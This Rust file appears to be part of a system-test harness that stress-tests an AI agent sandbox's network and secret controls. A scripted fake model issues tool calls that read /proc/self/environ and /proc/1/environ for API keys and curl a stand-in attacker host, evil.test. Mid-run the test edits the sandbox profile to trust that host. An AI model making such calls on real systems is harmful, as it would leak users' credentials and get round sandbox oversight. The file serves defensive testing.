//! The run in which most attempts are made: the real product with the real agent and a gate that allows all. One plan is gone through
//! in setup, by the agent, and in the proof; while the agent waits for its model, everything of the run is looked at from outside.

mod looks;

use crate::{
    case::{Case, Record, Role, Step},
    judge::Evidence,
    plan::{Setting, command, findings, inside, kernel},
    report::{Report, play},
    stage::{Stage, profile},
    table::{API_SECRET, TRUST},
};
use serde_json::{Value, json};
use std::{
    collections::BTreeMap,
    fs,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};
use system_tests::{
    Ran, Started, User, is_event,
    upstream::{Answer, Upstream},
    workspace,
};

/// The name under which cases ask for what is looked at around it.
pub(crate) const NAME: &str = "main";

/// Longest time for the plan in one place.
const PATIENCE: Duration = Duration::from_secs(300);
/// The task's prompt, which is stored with the run.
const PROMPT: &str = "Try everything, says the prompt of this run.";
/// A request to the attacker's site, whose status comes to lie in a file.
fn asks_evil(path: &str, file: &str) -> String {
    format!("curl -sS --max-time 8 -o /dev/null -w '%{{http_code}}' http://evil.test/{path} > {file}; true")
}

/// A run and what is known of it.
struct Scene<'s> {
    stage: &'s Stage,
    user: User,
    setting: Setting,
    upstream: Arc<Upstream>,
    key: String,
}

/// Makes the run under a runtime, and gives the evidence together with the cases as they were tried.
pub(crate) fn make(
    stage: &Stage,
    runtime: &'static str,
    cases: &[Case],
    controls: &[Step],
) -> (Evidence, Vec<Case>, Vec<Step>) {
    let user = stage.user(runtime);
    let setting = Setting {
        mark: runtime,
        home: user.home().display().to_string(),
        number: number(),
        at: inside(),
        kernel: kernel(runtime),
    };
    let (cases, controls) = (setting.marked_cases(cases), setting.marked(controls.to_vec()));
    setting.write(&user, &stage.internet, &cases, &controls);
    user.commit("a probe");
    let key = format!("sk-ant-api03-Zq7-{runtime}key-4c1e90");
    let user = user.careless().with_env("ANTHROPIC_API_KEY", &key).with_env("API_SECRET", API_SECRET);
    setting.give_remote(&user, &stage.internet);
    write_profile(&user, &format!("{}{TRUST}", profile(runtime)));
    let upstream = Arc::new(Upstream::start(conversation(runtime), Some(3)));
    stage.internet.welcome(&key, Arc::clone(&upstream));
    let scene = Scene { stage, user, setting, upstream, key };

    let mut evidence = Evidence::default();
    let before = stage.internet.hearing.all().len();
    let report = play(|report| {
        let ran = scene.run(report);
        scene.collect(&ran, &mut evidence, report);
    });
    evidence.heard = stage.internet.hearing.all().split_off(before);
    evidence.reports.insert(NAME, report);
    (evidence, cases, controls)
}

fn write_profile(user: &User, text: &str) {
    fs::write(user.home().join("config/sandbox/profile.toml"), text).expect("profile");
}

/// Different for every run, so that a process can be told by it.
fn number() -> u64 {
    static NEXT: AtomicU64 = AtomicU64::new(988_000_000);
    NEXT.fetch_add(1_000_000, Ordering::SeqCst) + u64::from(std::process::id())
}

/// The model's side. The third answer is held back until everything was looked at.
fn conversation(mark: &str) -> Vec<Answer> {
    let bash =
        |command: &str| json!({"command": command, "description": "a step", "timeout": PATIENCE.as_millis() as u64});
    let probe = format!("{} > findings.json", command(Role::Agent));
    let call = |tool: &'static str, input: Value| Answer::Call("The key is {key}, isn't it?".to_owned(), tool, input);
    vec![
        call("Bash", bash(&probe)),
        call("Read", json!({"file_path": "/proc/self/environ"})),
        call("Read", json!({"file_path": "/proc/1/environ"})),
        // After the operator's settings were edited.
        call("Bash", bash(&asks_evil(&format!("{mark}-late"), "late.txt"))),
        Answer::Text("It was {key}.".to_owned()),
    ]
}

impl Scene<'_> {
    fn start(&self) -> Started {
        let everywhere = command(Role::Verify);
        let task = format!(
            "---\nsetup: ['{everywhere}']\nverify: ['{everywhere}']\nexpect: {{changes: required}}\n---\n{PROMPT}\n"
        );
        let task = self.user.task(&task).display().to_string();
        let idle = format!("limits.idle-timeout={}s", PATIENCE.as_secs());
        let sets = ["--set", "gate.mode=allow-all", "--set", &idle];
        self.user.start(&[&["run", &task, "--format", "jsonl"][..], &sets].concat())
    }

    /// Runs it to its end, looking at it while the agent waits.
    fn run(&self, report: &mut Report) -> Ran {
        let started = self.start();
        self.upstream.wait_until_held_within(PATIENCE);
        looks::while_it_waits(self, report);
        // The operator's settings now trust the attacker, and more.
        let edited =
            format!("{}[trust]\nendpoints = [\"evil.test\", \"http://evil.test\"]\n", profile(self.setting.mark));
        write_profile(&self.user, &edited);
        self.upstream.release();
        started.finish_within(PATIENCE)
    }

    /// Takes in what the probe found in each place and what the host has written down.
    fn collect(&self, ran: &Ran, evidence: &mut Evidence, report: &mut Report) {
        assert_eq!(
            ran.code,
            0,
            "the run did not pass:\n{}",
            ran.stderr.lines().rev().take(30).collect::<Vec<_>>().join("\n")
        );
        let result = self.user.result();
        let run = result["run"].as_str().expect("run").to_owned();
        let _ = self.user.run(&["apply", &run]).expect_code(0);
        let attempt = self.user.attempt();
        let by_agent = self.user.git(&["show", &format!("sandbox/{run}:findings.json")]);
        evidence.findings.insert(Role::Agent, findings(&by_agent, &attempt));
        // For whoever wants to know what came of each attempt.
        let all = workspace().join("target").join(format!("attack-{}-findings.json", self.setting.mark));
        fs::write(all, &by_agent).expect("target");
        for (role, log) in
            [(Role::Setup, "setup/1.log"), (Role::ProofSetup, "verify/setup-1.log"), (Role::Verify, "verify/1.log")]
        {
            let path = attempt.join(log);
            evidence.findings.insert(role, findings(&fs::read_to_string(&path).expect(log), &path));
        }
        let records = self.user.journal("egress.jsonl");
        evidence.account = account(&result, &records, ran);
        evidence.records = Some(counts(&records));
        looks::afterwards(self, &run, ran, report);
    }
}

/// How many records there are of each thing that was asked for, with its rule.
fn counts(records: &[Value]) -> BTreeMap<Record, usize> {
    let text = |record: &Value, key: &str| record[key].as_str().unwrap_or_default().to_owned();
    let mut all = BTreeMap::new();
    for record in records {
        *all.entry(Record { asked: text(record, "asked"), rule: text(record, "rule") }).or_default() += 1;
    }
    all
}

/// What is wrong with the run's own count of refusals and with what it told, if anything is.
fn account(result: &Value, records: &[Value], ran: &Ran) -> Option<String> {
    let own = records.iter().filter(|record| record["asked"] != "denied.sandbox-canary.invalid:443");
    let (allowed, refused): (Vec<&Value>, Vec<_>) = own.partition(|record| record["allowed"] == true);
    let told = ran.events().iter().filter(|event| is_event(event, "refused")).count();
    let counted = |key: &str| result["egress"][key].as_u64().unwrap_or_default();
    let counts = [
        (refused.len() as u64, counted("refused"), "refusals on record and counted"),
        (refused.len() as u64, told as u64, "refusals on record and told"),
        (allowed.len() as u64, counted("allowed"), "connections on record and counted"),
    ];
    let wrong = counts.iter().find(|(one, other, _)| one != other);
    let leaked = refused.iter().find(|record| record["bytes-up"] != 0 || !record["address"].is_null());
    wrong
        .map(|(one, other, what)| format!("{what}: {one} and {other}"))
        .or_else(|| leaked.map(|record| format!("refused, but bytes went up: {record}")))
}
